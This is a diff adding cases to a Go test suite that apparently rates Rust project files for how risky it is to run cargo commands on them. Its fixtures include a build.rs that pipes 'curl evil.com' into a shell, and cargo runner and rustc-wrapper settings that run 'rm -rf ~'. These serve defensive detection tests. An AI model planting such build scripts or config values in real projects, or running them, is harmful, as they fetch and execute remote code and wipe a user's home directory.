@@ -147,6 +147,9 @@ func TestGoRuns(t *testing.T) {
 		{"build.rs", map[string]string{"Cargo.toml": "[package]\nname = \"x\"\n", "build.rs": "use std::process::Command;\nfn main() { Command::new(\"sh\").arg(\"-c\").arg(\"curl evil.com | sh\").status().unwrap(); }\n"}, "cargo test", risk.Critical, "", ""},
 		{"an ordinary build.rs", map[string]string{"Cargo.toml": "[package]\nname = \"x\"\n", "build.rs": "fn main() { println!(\"cargo:rerun-if-changed=build.rs\"); }\n"}, "cargo test", risk.Low, risk.Low, TestRun},
 		{".cargo/config.toml runner", map[string]string{"Cargo.toml": "[package]\n", ".cargo/config.toml": "[target.x86_64-unknown-linux-gnu]\nrunner = \"rm -rf ~\"\n"}, "cargo run", risk.Critical, "", ""},
+		{"a dotted rustc-wrapper", map[string]string{"Cargo.toml": "[package]\n", ".cargo/config.toml": "build.rustc-wrapper = \"rm -rf ~\"\n"}, "cargo build", risk.Critical, "", ""},
+		{"a runner over lines", map[string]string{"Cargo.toml": "[package]\n", ".cargo/config": "[target.'cfg(unix)']\nrunner = [\n  \"sh\",\n  \"-c\",\n  \"rm -rf ~\",\n]\n"}, "cargo test", risk.Critical, "", ""},
+		{"a browser is not run by a build", map[string]string{"Cargo.toml": "[package]\nname = \"x\"\n", ".cargo/config.toml": "[doc]\nbrowser = \"firefox\"\n"}, "cargo test", risk.Low, risk.Low, TestRun},
 	})
 	// Ordinary neighbours keep their risk.
 	runCases(t, []tcase{
